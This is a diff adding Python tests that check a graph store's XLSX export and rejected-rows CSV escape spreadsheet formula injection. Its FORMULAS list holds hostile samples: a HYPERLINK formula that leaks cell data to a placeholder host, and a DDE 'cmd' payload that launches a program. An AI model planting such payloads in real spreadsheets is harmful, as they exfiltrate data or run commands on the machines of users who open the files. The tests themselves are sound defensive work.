@@ -59,3 +59,53 @@ def test_second_numbered_project_list_imports(
     node = store.node("initiative:sak:2022000007-1")
     assert node is not None and node["name"] == "Prosjekt 7"
     assert sorted(node["sources"]) == ["liste-1.csv:8", "liste-2.csv:8"]
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]
+
+
+def test_exported_xlsx_has_no_live_formulas(store: GraphStore) -> None:
+    """Item 4: names starting with =, +, -, @ were written to the XLSX export as formulas."""
+    import io
+
+    from openpyxl import load_workbook
+
+    from graph.export import export
+    from graph.records import GraphBatch, make_node
+
+    batch = GraphBatch()
+    for text in FORMULAS:
+        batch.add_node(make_node("Organisation", text, {"description": text}, ["ondsinnet.csv:2"]))
+    store.upsert(batch)
+    wb = load_workbook(io.BytesIO(export(store, "xlsx")))
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {str(c.value) for c in cells}
+    for text in FORMULAS:
+        assert "'" + text in texts and text not in texts
+
+
+def test_rejected_rows_csv_has_no_live_formulas(
+    store: GraphStore, settings: Settings, tmp_path: Path
+) -> None:
+    """Item 4: the `--rejected` CSV passed a rejected row's cells through raw."""
+    from importers.run import write_rejected
+
+    path = tmp_path / "liste.csv"
+    with open(path, "w", newline="", encoding="utf-8") as fh:
+        w = csv.writer(fh, delimiter=";")
+        w.writerow(HEADER)
+        w.writerow([1, "Prosjekt 1", "Ola Nordmann", "Helse", "1.2.2022", ""])
+        for i, text in enumerate(FORMULAS, start=2):
+            w.writerow([i, text, text, "Helse", "31.02.2022", ""])  # no 31 February
+    report = imp(
+        store, isettings(settings, tmp_path), path, mapping="prosjektportalen", skip_bad_rows=True
+    )
+    assert len(report.plan.rejected) == len(FORMULAS)
+    out = write_rejected(report, tmp_path / "avvist.csv")
+    with open(out, encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh, delimiter=";"))
+    cells = [c for row in rows[1:] for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    for text in FORMULAS:
+        assert "'" + text in cells
